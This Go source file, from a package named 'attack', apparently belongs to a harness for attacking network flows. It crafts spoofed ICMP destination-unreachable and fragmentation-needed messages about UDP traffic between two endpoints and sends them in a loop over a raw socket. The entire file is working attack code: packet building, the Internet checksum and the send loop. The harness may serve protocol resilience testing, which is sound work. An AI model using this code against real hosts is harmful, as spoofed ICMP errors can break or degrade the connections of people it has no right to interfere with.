package attack

import (
	"encoding/binary"
	"fmt"
	"net/netip"

	"golang.org/x/sys/unix"
)

// icmp returns an attack with ICMP errors of type 3, which pretend that a victim's packets to
// its peer meet them: anybody can send them who knows addresses and ports.
func icmp(code byte, mtu uint16) func(*attacker) error {
	return func(a *attacker) error {
		raw, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
		if err != nil {
			return fmt.Errorf("open a raw socket: %w", err)
		}
		defer unix.Close(raw)
		for !a.stopped() {
			for to := range a.ends {
				from := netip.AddrPortFrom(a.ends[to].Addr.Addr(), uint16(a.page.slot(to).get(slotPort)))
				b := unreachable(code, mtu, from, a.ends[to^2].Addr)
				_ = unix.Sendto(raw, b, 0, &unix.SockaddrInet4{Addr: from.Addr().As4()})
				a.others++
			}
		}
		return nil
	}
}

// unreachable is an ICMP message about a packet (RFC 792, RFC 1191).
func unreachable(code byte, mtu uint16, from, to netip.AddrPort) []byte {
	b := make([]byte, 8+20+8)
	b[0], b[1] = 3, code
	binary.BigEndian.PutUint16(b[6:], mtu)
	ip := b[8:]
	ip[0], ip[6], ip[8], ip[9] = 0x45, 0x40, 64, unix.IPPROTO_UDP
	binary.BigEndian.PutUint16(ip[2:], 1100)
	copy(ip[12:], from.Addr().AsSlice())
	copy(ip[16:], to.Addr().AsSlice())
	binary.BigEndian.PutUint16(ip[10:], checksum(ip[:20]))
	binary.BigEndian.PutUint16(ip[20:], from.Port())
	binary.BigEndian.PutUint16(ip[22:], to.Port())
	binary.BigEndian.PutUint16(ip[24:], 1080)
	binary.BigEndian.PutUint16(b[2:], checksum(b))
	return b
}

// checksum is that of the Internet (RFC 1071).
func checksum(b []byte) uint16 {
	sum := uint32(0)
	for i := 0; i < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	sum = sum>>16 + sum&0xffff
	return ^uint16(sum + sum>>16)
}
